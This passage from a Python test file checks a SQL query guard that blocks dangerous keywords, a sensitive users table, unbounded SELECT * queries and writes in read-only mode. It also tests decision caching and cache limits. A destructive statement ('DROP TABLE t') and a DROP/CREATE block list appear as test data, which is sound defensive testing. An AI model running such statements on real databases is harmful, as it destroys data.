    assert policy.blocked_keywords == ("DROP", "CREATE")
    assert policy.max_query_length == 50
    assert policy.sensitive_tables == frozenset({"users"})
    assert blocked(policy, "SELECT * FROM users LIMIT 1").reason == "sensitive_table"
    assert blocked(policy, "SELECT * FROM t").reason == "select_star_without_limit"


def test_decisions_are_cached_per_query_and_flags() -> None:
    policy = Policy()
    first = policy.check("SELECT 1")
    assert policy.check("SELECT 1") is first
    assert not policy.check("INSERT INTO t VALUES (1)").is_read
    assert blocked(policy, "INSERT INTO t VALUES (1)", readonly=True).reason == "readonly"
    assert blocked(policy, "INSERT INTO t VALUES (1)", require_read=True).reason == "read_only_tool"


def test_cached_refusals_raise_a_fresh_exception_each_time() -> None:
    policy = Policy()
    errors = [blocked(policy, "DROP TABLE t") for _ in range(3)]
    assert len({id(e) for e in errors}) == 3
    assert {str(e) for e in errors} == {"Query blocked: contains dangerous keyword 'DROP'"}
    with pytest.raises(DatabaseError) as info:
        policy.check("SELEC 1")
    with pytest.raises(DatabaseError) as again:
        policy.check("SELEC 1")
    assert again.value is not info.value and again.value.sqlstate == "42601"


def test_cache_is_bounded() -> None:
    policy = Policy()
    for i in range(5000):
        policy.check(f"SELECT {i}")
    assert len(policy._cache) == 4096
    policy.clear_cache()
    assert len(policy._cache) == 0
